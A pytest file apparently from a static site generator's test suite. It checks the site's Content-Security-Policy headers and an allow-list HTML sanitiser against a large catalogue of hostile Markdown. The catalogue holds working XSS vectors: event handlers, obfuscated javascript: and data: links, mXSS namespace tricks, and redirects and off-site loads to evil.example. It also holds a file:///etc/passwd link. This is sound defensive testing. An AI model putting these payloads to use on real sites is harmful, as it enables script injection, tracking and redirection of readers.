"""Secure by default (issues 6 and 12): nothing an editor writes can run script, load anything from
another website or navigate a reader's browser; the pages need nothing the Content-Security-Policy
forbids, and _headers ships that policy.

ATTACKS below is the catalogue of hostile Markdown for issue 12 (classes 1 to 3: raw HTML, directives
inside markup, URLs). Each row says what the generator did with it before the allow-list sanitiser
(ssg/markdown/sanitise.py), on commit 5a25a0f: PASSED means it reached the page and would run script, load
from another website, break out of its place or pass for the site's own parts there; TEXT that it
reached the page as harmless text; REFUSED that the old block list refused it too (kept so that it
stays refused). Now every row is refused at its line, or published as harmless text.
tests/browser/test_attacks.py loads what the sanitiser makes of each one in Chromium. The older cases of
tests/bad_inputs.py (UNSAFE_MARKUP) run with the rest of that catalogue in tests/test_bad_input.py.
"""
from __future__ import annotations

import html
import json
import re
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ssg.errors import SiteError
from ssg.markdown import sanitise
from ssg.markdown.markup import MarkdownConverter

from bad_inputs import CHART, QUOTE_FRONT, md
from conftest import MINIMAL_CONFIG, run_cli, snapshot

PAYLOAD = "<script>alert('x')</script>\"><img src=x onerror=alert(1)>"  # runs if not escaped, in text or attributes
SHORT = "<i onclick=x>"  # for fields with a short length limit


def quoted(text: str) -> str:
    """`text` as a single-quoted YAML string."""
    return "'" + text.replace("'", "''") + "'"


def hostile_site(make_site) -> Path:
    """Every text an editor types outside Markdown bodies carries markup that must come out as text."""
    config = MINIMAL_CONFIG.replace("title: Test site", f"title: {quoted('Site ' + PAYLOAD)}").replace(
        "description: A site made by a test.", f"description: {quoted('About ' + PAYLOAD)}")
    config += (f"publisher: {quoted('Publisher ' + PAYLOAD)}\n"
               f"navigation:\n  - title: {quoted('Nav ' + PAYLOAD)}\n    url: /about/\n")
    chart = CHART.replace("title: T", f"title: {quoted('Chart ' + PAYLOAD)}").replace(
        "label: a", f"label: {quoted('Bar ' + SHORT)}")
    article = (f"title: {quoted('Title ' + PAYLOAD)}\nsummary: {quoted('Summary ' + PAYLOAD)}\ndate: 2024-01-02\n"
               f"tags: [{quoted('Tag ' + SHORT)}]\nsources:\n  - title: {quoted('Source ' + PAYLOAD)}\n"
               f"    publisher: {quoted('Publisher ' + PAYLOAD)}\n    url: https://example.org/\n")
    quote = QUOTE_FRONT.replace("A. Speaker", quoted("Speaker " + PAYLOAD)).replace(
        "Chief Constable", quoted("Role " + PAYLOAD))
    return make_site({
        "site.yaml": config,
        "content/articles/a.md": md(article, "[[quote: q]]\n\n[[chart: c]]"),
        "content/pages/about.md": md(f"title: {quoted('About ' + PAYLOAD)}\nsummary: {quoted('Page ' + PAYLOAD)}\n"
                                     f"image: /share.png\nimage_alt: {quoted('Alt ' + PAYLOAD)}\n"),
        "content/quotes/q.md": md(quote, "Words said."),
        "content/charts/c.yaml": chart,
    })


def test_front_matter_and_settings_cannot_inject_markup(make_site, build_site):
    root = hostile_site(make_site)
    result = build_site(root)
    assert result.status == 0, result.err
    texts = {name: data.decode() for name, data in snapshot(root / "_site").items() if name.endswith((".html", ".xml"))}
    for name, text in texts.items():
        assert "<script>alert" not in text and "<img src=x" not in text and "<i onclick" not in text, name
    page = texts["articles/a/index.html"]
    # The words are all there, as text: in the page, its head, the quote, the chart and the JSON-LD.
    for label in ("Site", "Title", "Summary", "Source", "Speaker", "Role", "Chart", "Nav", "Publisher"):
        assert f"{label} &lt;script&gt;alert(" in page, label
    for label in ("Tag", "Bar"):
        assert f"{label} &lt;i onclick=x&gt;" in page, label
    jsonld = re.search(r'<script type="application/ld\+json">(.*?)</script>', page, re.S).group(1)
    assert "<" not in jsonld and json.loads(jsonld)["headline"] == "Title " + PAYLOAD
    assert "Title &lt;script&gt;" in texts["feed.xml"]
    assert "Alt &lt;script&gt;" in texts["about/index.html"]


class PolicyChecker(HTMLParser):
    """What a page needs that the site's CSP (no inline script or style, nothing off-site) would block."""

    def __init__(self, origin: str) -> None:
        super().__init__(convert_charrefs=True)
        self.origin = origin
        self.problems: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.problems.append(f"<{tag} {name}=...>")
            loads = name in ("src", "srcset", "poster", "data") or (tag == "link" and name == "href")
            elsewhere = re.match(r"(?i)\s*(https?:)?//", value or "") and not (value or "").startswith(self.origin)
            names_a_page = tag == "link" and attributes.get("rel") in ("canonical", "alternate")
            if loads and elsewhere and not names_a_page:
                self.problems.append(f"<{tag} {name}={value}> loads from another site")
        if tag == "script":
            self.in_script = "src" not in attributes and attributes.get("type") != "application/ld+json"
        if tag == "style":
            self.problems.append("<style> element")

    def handle_data(self, data):
        if self.in_script and data.strip():
            self.problems.append(f"inline script: {data[:60]}")

    def handle_endtag(self, tag):
        if tag == "script":
            self.in_script = False


def test_every_page_of_the_real_site_works_under_the_policy(real_site):
    """No inline script or style, event handler or off-site resource on any page (the browser test runs them too)."""
    pages = sorted(real_site.rglob("*.html"))
    assert len(pages) > 20
    for page in pages:
        checker = PolicyChecker("https://helpsafely.example.org/")
        checker.feed(page.read_text(encoding="utf-8"))
        assert checker.problems == [], page.relative_to(real_site)


def parse_headers(text: str) -> dict[str, dict[str, str]]:
    """Netlify / Cloudflare Pages `_headers`: a path line, then indented `Name: value` lines."""
    rules: dict[str, dict[str, str]] = {}
    path = None
    for line in text.splitlines():
        if not line.strip() or line.lstrip().startswith("#"):
            continue
        if not line[0].isspace():
            path = line.strip()
            rules[path] = {}
        else:
            name, _, value = line.strip().partition(":")
            rules[path][name.strip()] = value.strip()
    return rules


def csp_directives(policy: str) -> dict[str, list[str]]:
    return {part.split()[0]: part.split()[1:] for part in policy.split(";") if part.strip()}


def test_headers_file_ships_a_strict_policy_and_long_caching_for_fingerprinted_assets(real_site):
    rules = parse_headers((real_site / "_headers").read_text())
    everywhere = rules["/*"]
    policy = csp_directives(everywhere["Content-Security-Policy"])
    assert "'unsafe-inline'" not in everywhere["Content-Security-Policy"]
    assert "'unsafe-eval'" not in everywhere["Content-Security-Policy"]
    assert policy["default-src"] == ["'none'"]
    assert policy["script-src"] == ["'self'"] and policy["style-src"] == ["'self'"]
    assert policy["frame-ancestors"] == ["'none'"] and policy["base-uri"] == ["'none'"]
    assert policy["form-action"] == ["'none'"]
    assert everywhere["X-Content-Type-Options"] == "nosniff"
    assert everywhere["Referrer-Policy"] in ("no-referrer", "strict-origin-when-cross-origin", "same-origin")
    assert "camera=()" in everywhere["Permissions-Policy"] and "geolocation=()" in everywhere["Permissions-Policy"]

    cache = rules["/assets/*"]["Cache-Control"]
    assert "immutable" in cache and int(re.search(r"max-age=(\d+)", cache).group(1)) >= 31_536_000
    assets = [p.relative_to(real_site).as_posix() for p in (real_site / "assets").rglob("*") if p.is_file()]
    assert assets and all(re.search(r"\.[0-9a-f]{8}\.\w+$", name) for name in assets)  # fingerprinted, so immutable
    assert not any(p.name == "index.html" for p in (real_site / "assets").rglob("*"))


def test_headers_follow_a_site_published_under_a_sub_path(make_site, build_site):
    root = make_site()
    assert build_site(root, "--base-url", "https://example.org/campaign/").status == 0
    rules = parse_headers((root / "_site" / "_headers").read_text())
    assert "Content-Security-Policy" in rules["/campaign/*"]
    assert "immutable" in rules["/campaign/assets/*"]["Cache-Control"]


def test_raw_html_for_simple_markup_stays_available(make_site, build_site):
    markup = ('<abbr title="Police and Criminal Evidence Act">PACE</abbr> and <kbd>999</kbd>, '
              '<a href="https://www.gov.uk/">GOV.UK</a>\n\n'
              '<details><summary>More</summary><p>Hidden <strong>text</strong>.</p></details>\n\n'
              '<img src="/share.png" alt="Poster" width="100">\n\n'
              '| Left | Right |\n|:-----|------:|\n| a | 1 |')
    root = make_site({"content/articles/a.md": md("title: A\nsummary: S.\ndate: 2024-01-02\n", markup)})
    result = build_site(root)
    assert result.status == 0, result.err
    page = html.unescape((root / "_site" / "articles" / "a" / "index.html").read_text())
    for kept in ('<abbr title="Police and Criminal Evidence Act">PACE</abbr>', "<kbd>999</kbd>",
                 '<a href="https://www.gov.uk/">GOV.UK</a>', "<details><summary>More</summary>",
                 '<img src="/share.png" alt="Poster" width="100">',
                 '<th class="align-left">Left</th>', '<td class="align-right">1</td>'):
        assert kept in page


# --- the attack catalogue (issue 12, classes 1 to 3) ----------------------------------------------
EVIL = "https://evil.example"
RUN = "window.__pwned=1;console.log('PWNED')"  # what a payload's script does (the browser test looks for it)
PASSED, TEXT, REFUSED = "passed", "text", "refused"


@dataclass(frozen=True)
class Attack:
    id: str
    markdown: str       # an article body, starting on line 6 of content/articles/a.md
    line: int | None    # the line its refusal names; None: published, as harmless text
    what: str           # the refusal: "the text contains <what>, which is not allowed"
    on_main: str        # PASSED, TEXT or REFUSED: what the generator did with it before the sanitiser


ATTACKS = [
    # Markup hidden from a parser: comments, CDATA sections, bogus comments, processing instructions.
    Attack("comment-hiding-img", f'Intro.\n\n<!-- <img src=x onerror="{RUN}"> -->', 8, "an HTML comment", REFUSED),
    Attack("comment-abrupt-close", f'<!--><img src=x onerror="{RUN}">-->', 6, "an HTML comment", REFUSED),
    Attack("comment-abrupt-close-dash", f'<!---><img src=x onerror="{RUN}">-->', 6, "an HTML comment", REFUSED),
    Attack("comment-bang-close", f'<!-- x --!><img src=x onerror="{RUN}"> -->', 6, "an HTML comment", REFUSED),
    Attack("comment-inline", f'Text <!-- --!><img src=x onerror="{RUN}"> --> more.', 6, "an HTML comment", REFUSED),
    Attack("comment-hiding-meta-refresh", f'<!-- --!><meta http-equiv="refresh" content="0;url={EVIL}/"> -->', 6,
           "an HTML comment", REFUSED),
    Attack("plain-comment", "A paragraph.\n\n<!-- a note for editors -->", 8, "an HTML comment", TEXT),
    Attack("cdata-block", f'<![CDATA[><img src=x onerror="{RUN}">]]>', 6, "a <![CDATA[ section", REFUSED),
    Attack("cdata-inline", f'Text <![CDATA[ ]]><img src=x onerror="{RUN}"> more.', 6, "a <![CDATA[ section",
           REFUSED),
    Attack("bogus-comment", f'<!x><img src=x onerror="{RUN}">', 6, "an event handler (onerror=)", REFUSED),
    Attack("bogus-comment-inline", f'Text <!x y><img src=x onerror="{RUN}">', 6, "an event handler (onerror=)",
           REFUSED),
    Attack("processing-instruction", f'<?x ?><img src=x onerror="{RUN}">', 6, "a <!...> or <?...> declaration",
           REFUSED),
    # Navigation and the page's base address.
    Attack("meta-refresh", f'<meta http-equiv="refresh" content="0;url={EVIL}/">', 6, "a <meta> element", REFUSED),
    Attack("meta-refresh-upper-case", f'Intro.\n\n<META HTTP-EQUIV=REFRESH CONTENT="0;URL={EVIL}/">', 8,
           "a <meta> element", REFUSED),
    Attack("base", f'<base href="{EVIL}/">', 6, "a <base> element", REFUSED),
    Attack("base-protocol-relative", "<BASE HREF=//evil.example/>", 6, "a <base> element", REFUSED),
    # Event handlers.
    Attack("onerror", f'<img src="/a.png" alt="" onerror="{RUN}">', 6, "an event handler (onerror=)", REFUSED),
    Attack("onmouseover", f'<p onmouseover="{RUN}">x</p>', 6, "an event handler (onmouseover=)", REFUSED),
    Attack("onfocus-autofocus", f'<a href="/x/" onfocus="{RUN}" autofocus>x</a>', 6, "an event handler (onfocus=)",
           REFUSED),
    Attack("ontoggle-details", f'<details open ontoggle="{RUN}"><summary>s</summary>x</details>', 6,
           "an event handler (ontoggle=)", REFUSED),
    Attack("handler-upper-case", f'<IMG SRC=x ONERROR="{RUN}">', 6, "an event handler (onerror=)", REFUSED),
    Attack("handler-after-slash", f'<img/src="x"/onerror="{RUN}">', None, "", TEXT),
    Attack("attr-list-handler", 'A paragraph.\n{: onclick="alert(1)" }', 7, "an event handler (onclick=)", REFUSED),
    Attack("attr-list-heading-breakout", '## X {: #" onmouseover=alert(1) x=" }', 6,
           "an event handler (onmouseover=)", REFUSED),
    Attack("svg-onload", f'<svg onload="{RUN}"></svg>', 6, "a <svg> element", REFUSED),
    Attack("body-onload", f'<body onload="{RUN}">', 6, "a <body> element", REFUSED),
    # javascript:, data: and vbscript: links, hidden by case, character references and white space.
    Attack("javascript-link", "[x](javascript:alert(1))", 6, "a javascript: link", REFUSED),
    Attack("javascript-mixed-case", "[x](JaVaScRiPt:alert(1))", 6, "a javascript: link", REFUSED),
    Attack("javascript-reference-in-markdown", "[x](java&#115;cript:alert(1))", 6, "a javascript: link", REFUSED),
    Attack("javascript-reference-first-letter", '<a href="&#106;avascript:alert(1)">x</a>', 6, "a javascript: link",
           REFUSED),
    Attack("javascript-named-colon", '<a href="javascript&colon;alert(1)">x</a>', 6, "a javascript: link", REFUSED),
    Attack("javascript-references-without-semicolons",
           '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>', 6,
           "a javascript: link", REFUSED),
    Attack("javascript-tab", '<a href="java&#9;script:alert(1)">x</a>', 6, "a javascript: link", REFUSED),
    Attack("javascript-line-break", '<a href="java&#x0A;script:alert(1)">x</a>', 6, "a javascript: link", REFUSED),
    Attack("javascript-leading-control", '<a href=" &#14; javascript:alert(1)">x</a>', 6, "a javascript: link",
           REFUSED),
    Attack("javascript-angle-target", "[x](<javascript:alert(1)>)", 6, "a javascript: link", REFUSED),
    Attack("vbscript-link", '<a href="vbscript:msgbox(1)">x</a>', 6, "a vbscript: link", REFUSED),
    Attack("data-link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", 6, "a data: link",
           REFUSED),
    Attack("data-image", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", 6, "a data: link", REFUSED),
    Attack("data-image-html", '<img src="data:image/png;base64,iVBORw0KGgo=" alt="">', 6, "a data: link", REFUSED),
    Attack("area-javascript", '<map name=m><area href="javascript:alert(1)"></map>', 6, "a <map> element", REFUSED),
    Attack("file-link", "[x](file:///etc/passwd)", 6, "a link starting file:", PASSED),
    # Markdown autolinks and reference links.
    Attack("autolink-javascript", "<javascript:alert(1)>", 6, "a <javascript:alert(1)> element", TEXT),
    Attack("reference-javascript", "See [this][r].\n\n[r]: javascript:alert(1)", 8, "a javascript: link", REFUSED),
    Attack("reference-javascript-angle", "See [this][r].\n\n[r]: <javascript:alert(1)>", 8, "a javascript: link",
           REFUSED),
    Attack("reference-javascript-reference", "See [this][r].\n\n[r]: java&#115;cript:alert(1)", 8,
           "a javascript: link", REFUSED),
    Attack("reference-image-off-site", f"![x][p]\n\n[p]: {EVIL}/pixel.png", 8,
           "a picture or media file from another website", REFUSED),
    Attack("reference-image-backslashes", "![x][p]\n\n[p]: \\\\evil.example/pixel.png", 8,
           "a web address with a backslash", PASSED),
    # Pictures and media from other websites: srcset, poster, background, SVG image, xlink, backslashes.
    Attack("image-off-site", f"![x]({EVIL}/pixel.png)", 6, "a picture or media file from another website", REFUSED),
    Attack("image-protocol-relative", '<img src="//evil.example/p.png" alt="">', 6,
           "a picture or media file from another website", REFUSED),
    Attack("image-backslashes", '<img src="\\\\evil.example/p.png" alt="">', 6, "a web address with a backslash",
           PASSED),
    Attack("image-slash-backslash", '<img src="/\\evil.example/p.png" alt="">', 6, "a web address with a backslash",
           PASSED),
    Attack("markdown-image-backslashes", "![x](\\\\evil.example/p.png)", 6, "a web address with a backslash",
           PASSED),
    Attack("markdown-image-slash-backslash", "![x](/\\evil.example/p.png)", 6, "a web address with a backslash",
           PASSED),
    Attack("srcset-second-candidate", '<img src="/a.png" alt="" srcset="/a.png 2x, https://evil.example/b.png 1x">',
           6, "the attribute srcset= on <img>", PASSED),
    Attack("srcset-on-source", '<picture><source srcset="/a.png 1x, //evil.example/b.png 2x">'
           '<img src="/a.png" alt=""></picture>', 6, "a <picture> element", PASSED),
    Attack("poster-backslashes", '<video poster="\\\\evil.example/p.png"></video>', 6, "a <video> element", PASSED),
    Attack("background", f'<table background="{EVIL}/bg.png"><tr><td>x</td></tr></table>', 6,
           "the attribute background= on <table>", PASSED),
    Attack("image-element", f'<image src="{EVIL}/x.png">', 6, "an <image> element", PASSED),
    Attack("svg-image", f'<svg><image href="{EVIL}/x.png"/></svg>', 6, "a <svg> element", REFUSED),
    Attack("svg-xlink", f'<svg><use xlink:href="{EVIL}/s.svg#x"/></svg>', 6, "a <svg> element", REFUSED),
    Attack("svg-xlink-javascript", '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>', 6,
           "a <svg> element", REFUSED),
    Attack("audio-source", f'<audio controls><source src="{EVIL}/a.mp3"></audio>', 6, "an <audio> element", REFUSED),
    Attack("video-track", f'<video><track src="{EVIL}/t.vtt"></video>', 6, "a <video> element", REFUSED),
    Attack("input-image", f'<input type="image" src="{EVIL}/i.png">', 6, "an <input> element", REFUSED),
    Attack("link-ping", f'<a href="/x/" ping="{EVIL}/track">x</a>', 6, "the attribute ping= on <a>", PASSED),
    Attack("stylesheet", f'<link rel="stylesheet" href="{EVIL}/x.css">', 6, "a <link> element", REFUSED),
    Attack("style-attribute-url", f'<p style="background:url({EVIL}/bg.png)">x</p>', 6, "a style= attribute",
           REFUSED),
    Attack("style-import", f"<style>@import '{EVIL}/x.css';</style>", 6, "a <style> element", REFUSED),
    Attack("blockquote-cite", f'<blockquote cite="{EVIL}/">x</blockquote>', 6, "the attribute cite= on <blockquote>",
           TEXT),
    # Forms and embedded objects.
    Attack("form-action", f'<form action="{EVIL}/"><button>Go</button></form>', 6, "a <form> element", REFUSED),
    Attack("button-formaction", f'<button form="f" formaction="{EVIL}/">Go</button>', 6, "a <button> element", PASSED),
    Attack("input-formaction", f'<input type="submit" formaction="{EVIL}/">', 6, "an <input> element", PASSED),
    Attack("object", f'<object data="{EVIL}/x.swf"></object>', 6, "an <object> element", REFUSED),
    Attack("embed", f'<embed src="{EVIL}/x.swf">', 6, "an <embed> element", REFUSED),
    Attack("iframe", f'<iframe src="{EVIL}/"></iframe>', 6, "an <iframe> element", REFUSED),
    Attack("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>', 6,
           "an <iframe> element", REFUSED),
    Attack("frameset", f'<frameset><frame src="{EVIL}/"></frameset>', 6, "a <frameset> element", REFUSED),
    Attack("portal", f'<portal src="{EVIL}/"></portal>', 6, "a <portal> element", REFUSED),
    Attack("script", f"<script>{RUN}</script>", 6, "a <script> element", REFUSED),
    Attack("script-src", f'<script src="{EVIL}/x.js"></script>', 6, "a <script> element", REFUSED),
    Attack("target-blank", f'<a href="{EVIL}/" target="_blank">x</a>', 6, "the attribute target= on <a>", PASSED),
    Attack("dom-clobbering-name", '<img name="getElementById" src="/a.png" alt="">', 6, "the attribute name= on <img>",
           PASSED),
    Attack("class-the-site-script-uses", "<span class=\"copy-link\">x</span>", 6, "the class 'copy-link'", PASSED),
    Attack("class-dressed-as-the-sites-contacts", "Intro.\n{: .contact-urgent }", 7, "the class 'contact-urgent'",
           PASSED),
    Attack("class-for-an-unknown-code-language", "Intro.\n\n```evil\nx\n```", 8, "the class 'language-evil'", TEXT),
    # Namespace confusion: math and svg.
    Attack("math-mglyph-style", '<math><mtext><table><mglyph><style><!--</style>'
           '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', 6, "a <math> element", REFUSED),
    Attack("svg-p-style", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', 6, "a <svg> element",
           REFUSED),
    Attack("math-style", "<math><style><img src=x onerror=alert(1)></style></math>", 6, "a <math> element", REFUSED),
    Attack("form-math-confusion", "<form><math><mtext></form><form><mglyph><style></math>"
           "<img src onerror=alert(1)>", 6, "a <form> element", REFUSED),
    Attack("math-href", '<math href="javascript:alert(1)">x</math>', 6, "a <math> element", REFUSED),
    # Elements whose content is raw text, and <template>.
    Attack("noscript", '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>"></noscript>', 6,
           "a <noscript> element", REFUSED),
    Attack("template", f'<template><img src=x onerror="{RUN}"></template>', 6, "a <template> element", REFUSED),
    Attack("style-hiding-img", "<style><img src=x onerror=alert(1)></style>", 6, "a <style> element", REFUSED),
    Attack("textarea", '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>', 6,
           "a <textarea> element", REFUSED),
    Attack("title", '<title><img title="</title><img src=x onerror=alert(1)>"></title>', 6, "a <title> element",
           REFUSED),
    Attack("xmp", '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>', 6, "a <xmp> element", REFUSED),
    Attack("noembed", '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>', 6,
           "a <noembed> element", REFUSED),
    Attack("plaintext", "<plaintext><img src=x onerror=alert(1)>", 6, "a <plaintext> element", REFUSED),
    Attack("select-template", '<select><template><style><!--</style><a rel="--></template></select>'
           '<img src onerror=alert(1)>">', 6, "a <select> element", REFUSED),
    # Directives and their placeholders anywhere but on a line of their own.
    Attack("placeholder-in-attribute", '<a href="/x/" title="<!--ssg:quote:q:1-->">x</a>', 6,
           "a directive (ssg:quote:...) that is not on a line of its own", PASSED),
    Attack("placeholder-as-comment", "<!--ssg:quote:q:1-->", 6, "an HTML comment", PASSED),
    Attack("placeholder-as-text", "Text ssg:quote:q:1 here.", 6,
           "a directive (ssg:quote:...) that is not on a line of its own", TEXT),
    Attack("directive-in-raw-html", "Intro.\n\n<div>\n[[quote: q]]\n</div>", 9,
           "a [[quote]] directive inside HTML or a link", PASSED),
    Attack("directive-in-link", "[[[quote: q]]](/x/)", 6,
           "a directive ([[quote:...) that is not on a line of its own", TEXT),
    Attack("directive-inline", "See [[quote: q]] here.", 6,
           "a directive ([[quote:...) that is not on a line of its own", TEXT),
    Attack("directive-made-of-references", "&#2;ssg:quote:q:1&#3;", 6,
           "markup that browsers read differently from how it looks", TEXT),
]


@pytest.fixture(scope="module")
def converter() -> MarkdownConverter:
    return MarkdownConverter("/")


def test_the_attack_catalogue_ids_are_unique():
    assert len({attack.id for attack in ATTACKS}) == len(ATTACKS)


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.id)
def test_every_attack_is_refused_at_its_line_or_published_as_harmless_text(converter, attack):
    if attack.line is None:
        published = converter.convert(attack.markdown, "content/articles/a.md", 6)
        assert forbidden_in(published) == []
        assert "onerror" in html.unescape(published)  # there, as text
        return
    with pytest.raises(SiteError) as refused:
        converter.convert(attack.markdown, "content/articles/a.md", 6)
    message, hint = str(refused.value).split("\nhint: ")
    assert message == f"content/articles/a.md:{attack.line}: the text contains {attack.what}, which is not allowed"
    assert len(hint) > 20


class AllowList(HTMLParser):
    """What a published body holds that the allow-list does not allow (read from the HTML nh3 wrote,
    which every parser reads the same way)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in sanitise.ALLOWED_ELEMENTS:
            self.problems.append(f"<{tag}>")
        allowed = sanitise.GLOBAL_ATTRIBUTES | sanitise.ELEMENT_ATTRIBUTES.get(tag, set())
        for name, value in attrs:
            if name not in allowed:
                self.problems.append(f"<{tag} {name}=>")
            if sanitise.value_problem(tag, name, value or ""):
                self.problems.append(f"<{tag} {name}={value}>")

    def handle_comment(self, data):
        self.problems.append(f"<!--{data}-->")

    def handle_decl(self, decl):
        self.problems.append(f"<!{decl}>")

    unknown_decl = handle_decl

    def handle_pi(self, data):
        self.problems.append(f"<?{data}>")


def forbidden_in(published: str) -> list[str]:
    """Everything in a converted body that is not on the allow-list (its placeholders aside)."""
    checker = AllowList()
    checker.feed(re.sub(r"<!--ssg:[a-z]+:[^:>]*:\d+-->", "", published))
    checker.close()
    return checker.problems


def test_the_allow_list_names_every_url_attribute_it_allows():
    """A URL-bearing attribute on the allow-list without a URL rule would let any address through."""
    holds_urls = {"href", "src", "srcset", "poster", "background", "action", "formaction", "cite", "data", "ping",
                  "xlink:href", "longdesc", "usemap", "manifest", "codebase", "archive", "icon", "profile", "lowsrc",
                  "dynsrc", "itemtype", "itemid", "classid"}
    allowed = {(tag, name) for tag, names in sanitise.ELEMENT_ATTRIBUTES.items() for name in names}
    allowed |= {("*", name) for name in sanitise.GLOBAL_ATTRIBUTES}
    assert {pair for pair in allowed if pair[1] in holds_urls} == set(sanitise.URL_ATTRIBUTES)


# Raw HTML made of the pieces attacks are made of: what the build accepts must be on the allow-list.
HTML_PIECES = ["<", ">", "</", "/>", "<!--", "-->", "--!>", "<!", "<![CDATA[", "]]>", "<?", "&", "&#", ";", "'", '"',
               "=", " ", "\n", "\n\n", "a", "p", "img", "svg", "math", "style", "script", "title", "textarea",
               "noscript", "template", "iframe", "table", "tr", "td", "div", "details", "select", "option", "base",
               "meta", "form", "src", "href", "srcset", "onerror", "onclick", "style=", "id", "class", "x", "/", "\\",
               "//", ":", "javascript", "data", "https", "evil.example", "#", "[[quote: q]]", "[[", "]]",
               "<a href=", "<img src=", "](", "![", "[", "]", "(", ")", "{: ", " }", "&#106;", "&colon;", "&#9;",
               "\x00", "\u2028"]


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(HTML_PIECES), max_size=40).map("".join))
def test_whatever_is_published_is_on_the_allow_list(converter, body):
    try:
        published = converter.convert(body, "content/articles/a.md", 6)
    except SiteError as error:
        assert error.path == "content/articles/a.md" and 6 <= error.line <= 6 + body.count("\n")
        return
    assert forbidden_in(published) == []
    markers = published.replace("<!--ssg:", "\x02").replace("-->", "\x03")
    assert sanitise.CLEANER.clean(markers) == sanitise.as_html5_writes(markers)  # nh3 would change nothing more


def test_simple_markup_footnotes_tables_and_code_pass_unchanged(converter):
    body = ("## A heading {: #help .lead }\n\nText with a note[^1], `code` and a [link](/x/ \"T\").\n\n"
            "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n```python\nx < y & z\n```\n\n<dl><dt>Term</dt><dd>Meaning</dd></dl>\n\n"
            "<p>Mail <a href=\"mailto:a@example.org\">us</a> or call <a href=\"tel:999\">999</a>, "
            "<time datetime=\"2024-01-02\">2 January</time>, H<sub>2</sub>O, <mark>this</mark>.</p>\n\n"
            "<a@example.org> <https://www.gov.uk/>\n\n[^1]: The note.")
    published = converter.convert(body, "content/articles/a.md", 6)
    assert forbidden_in(published) == []
    for kept in ('<h2 class="lead" id="help">', '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>',
                 '<th class="align-left">a</th>', '<code class="language-python">x &lt; y &amp; z',
                 '<dl><dt>Term</dt><dd>Meaning</dd></dl>', '<a href="mailto:a@example.org">us</a>',
                 '<a href="tel:999">999</a>', '<time datetime="2024-01-02">', '<a href="mailto:a@example.org">',
                 '<a href="https://www.gov.uk/">', '<li id="fn:1">', 'class="footnote-backref" href="#fnref:1"'):
        assert kept in published, kept


def test_directives_expand_only_on_a_line_of_their_own(converter):
    published = converter.convert("Intro.\n\n[[quote: ada]]\n\n- item\n\n[[contacts]]\n", "content/pages/x.md", 5)
    assert "<p>Intro.</p>\n<!--ssg:quote:ada:7-->\n<ul>" in published and "\n<!--ssg:contacts::11-->" in published


# --- whole builds: quotes, the render stage, and `check` ------------------------------------------
ARTICLE_FRONT = "title: A\nsummary: S.\ndate: 2024-01-02\n"


def quote_file(text: str) -> str:
    """A quote whose words (line 10 of its file) are `text`."""
    return md(QUOTE_FRONT, text)


def test_a_placeholder_in_an_attribute_cannot_carry_a_quote_into_the_tag(make_site, build_site):
    """The review's case: a quote filled in inside title='...' closed the attribute with a ' from a code span."""
    attribute = "<a href=\"/x/\" title='<!--ssg:quote:q:1-->'>x</a>"
    root = make_site({"content/articles/a.md": md(ARTICLE_FRONT, f"Intro.\n\n{attribute}"),
                      "content/quotes/q.md": quote_file("`' onmouseover=alert(1) x='`")})
    result = build_site(root)
    assert result.status == 1
    assert result.err.splitlines()[0] == ("error: content/articles/a.md:8: the text contains a directive "
                                          "(ssg:quote:...) that is not on a line of its own, which is not allowed")


def test_a_quote_body_is_sanitised_like_any_body(make_site, build_site):
    root = make_site({"content/articles/a.md": md(ARTICLE_FRONT, "Intro.\n\n[[quote: q]]"),
                      "content/quotes/q.md": quote_file("Words.\n\n<img src=\"\\\\evil.example/p.png\" alt=\"\">")})
    result = build_site(root)
    assert result.err.splitlines()[0] == ("error: content/quotes/q.md:12: the text contains a web address with a "
                                          "backslash, which is not allowed")


def test_a_quote_that_shows_itself_is_an_error_not_a_crash(make_site, build_site):
    root = make_site({"content/quotes/q.md": quote_file("Words.\n\n[[quote: q]]")})
    result = build_site(root)
    assert result.status == 1
    assert result.err.splitlines() == [
        "error: content/quotes/q.md:12: the quote 'q' would show inside itself (q -> q)",
        "hint: a quote cannot show itself, directly or through another quote: remove this [[quote]]"]


def test_quotes_that_show_each_other_are_an_error_not_a_crash(make_site, build_site):
    root = make_site({"content/articles/a.md": md(ARTICLE_FRONT, "[[quote: a]]"),
                      "content/quotes/a.md": quote_file("A.\n\n[[quote: b]]"),
                      "content/quotes/b.md": quote_file("B.\n\n\n[[quote: a]]")})
    result = build_site(root)
    assert result.status == 1
    first = result.err.splitlines()[0]
    assert first in ("error: content/quotes/b.md:13: the quote 'a' would show inside itself (a -> b -> a)",
                     "error: content/quotes/a.md:12: the quote 'b' would show inside itself (b -> a -> b)"), first


def test_a_quote_shown_twice_is_no_loop(make_site, build_site):
    root = make_site({"content/articles/a.md": md(ARTICLE_FRONT, "[[quote: a]]\n\n[[quote: b]]"),
                      "content/quotes/a.md": quote_file("A words.\n\n[[quote: b]]"),
                      "content/quotes/b.md": quote_file("B words.")})
    assert build_site(root).status == 0
    page = (root / "_site" / "articles" / "a" / "index.html").read_text()
    assert page.count("B words.") == 2 and "<!--" not in page


REFUSALS = {  # a body or quote each, and the error build and check must both report
